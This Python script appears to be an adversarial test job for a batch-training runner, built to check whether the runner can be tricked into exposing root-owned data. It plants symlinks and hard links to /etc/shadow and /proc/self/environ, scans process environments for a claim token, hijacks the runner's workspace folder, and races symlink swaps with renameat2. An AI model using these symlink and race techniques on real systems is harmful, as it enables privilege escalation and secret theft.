"""A training that tries what its user can do, to have the runner read, write or give away what is root's."""
import ctypes
import json
import os
import socket
import sys
import time
from pathlib import Path

parameters = dict(argument.removeprefix("--").split("=", 1) for argument in sys.argv[1:])
attempt = int(os.environ["AWS_BATCH_JOB_ATTEMPT"])
checkpoints, output, metrics, finished = (
    Path(os.environ[name]) for name in ("SPOTSWEEP_CHECKPOINTS", "SPOTSWEEP_OUTPUT", "SPOTSWEEP_METRICS", "SPOTSWEEP_FINISHED")
)
workspace = checkpoints.parent
own = workspace / ".spotsweep"
probe = Path("/probe")
TARGETS = [probe / "secret", Path("/proc/self/environ"), Path("/dev/zero"), Path("/etc/shadow")]
libc = ctypes.CDLL(None)
RENAME_EXCHANGE, AT_FDCWD = 2, -100


def attempted(what, *arguments):
    """Does something that may be refused."""
    try:
        what(*arguments)
    except OSError as error:
        return type(error).__name__
    return "done"


def pairs(folder, ending):
    """Files with a link next to each, to be exchanged again and again."""
    found = []
    for number in range(100):
        file, link = folder / f"file-{number}{ending}", folder / f"link-{number}{ending}"
        for path in (file, link):
            path.unlink(missing_ok=True)
        file.write_bytes(b"x" * 25)
        os.utime(file, (1e9, 1e9))
        attempted(os.symlink, TARGETS[0], link)
        found.append((os.fsencode(file), os.fsencode(link)))
    return found


def odd_things(folder):
    """What is no file, and files that lead elsewhere."""
    attempted(os.mkfifo, folder / "pipe.pt")
    attempted(lambda: socket.socket(socket.AF_UNIX).bind(str(folder / "socket.pt")))
    for number, target in enumerate(TARGETS):
        attempted(os.symlink, target, folder / f"target-{number}.pt")
        attempted(os.link, target, folder / f"second-{number}.pt")
    attempted(os.symlink, probe / "folder", folder / "folder")
    attempted(os.symlink, "..", folder / "up")
    deep = folder
    for _ in range(40):
        deep = deep / "deep"
        deep.mkdir(exist_ok=True)
    (deep / "bottom").write_text("x")


def replace(path, kind):
    if path.is_dir() and not path.is_symlink():
        path.rename(path.with_name(path.name + "-old"))
    else:
        path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to({"zero": "/dev/zero", "environment": "/proc/self/environ", "secret": probe / "secret"}[kind])


def sees_a_claim_token():
    """Whether the environment of any process in the container shows it."""
    def shows(path):
        try:
            return b"SPOTSWEEP_CLAIM_TOKEN" in path.read_bytes()
        except OSError:
            return False

    return any(shows(path) for path in Path("/proc").glob("[0-9]*/environ"))


def take_over():
    """Puts a folder of its own in the place of the runner's."""
    done = attempted(own.rename, workspace / f"taken-{attempt}")
    if done == "done":
        own.mkdir()
    for name, target in [("storage", "folder"), ("train.log", "file"), ("metrics.jsonl", "file2"), ("kept", "folder"), ("torn", "folder"), ("code", "folder")]:
        attempted(os.symlink, probe / target, own / name)
    attempted(lambda: (own / "seal.json").write_text('{"attempt":1,"final":true,"files":{}}'))
    return done


print("attempt", attempt, "as", os.getuid(), "newest", sorted(path.name for path in checkpoints.glob("step-*"))[-1:], flush=True)
print("sees a claim token:", sees_a_claim_token(), flush=True)
# Root may do that: such a training is trusted with the instance.
print("takes over:", take_over() if os.getuid() else "not tried", flush=True)
for folder in (checkpoints, output):
    odd_things(folder)
attempted(replace, metrics, parameters["metrics"])
attempted(replace, finished, parameters["finished"])
for name in ("metrics.jsonl", "train.log", "parameters.json"):
    attempted(replace, metrics.parent.parent / name, "secret")
    attempted(replace, metrics.parent / name, "environment")
(checkpoints / f"step-{attempt}").write_text(json.dumps({"step": attempt}))
exchanged = pairs(output, "") + pairs(checkpoints, ".pt")
print(f"score={attempt}", flush=True)
end = time.time() + float(parameters["seconds"])
while attempt == 1 or time.time() < end:
    for one, other in exchanged:
        libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
    time.sleep(0.02)
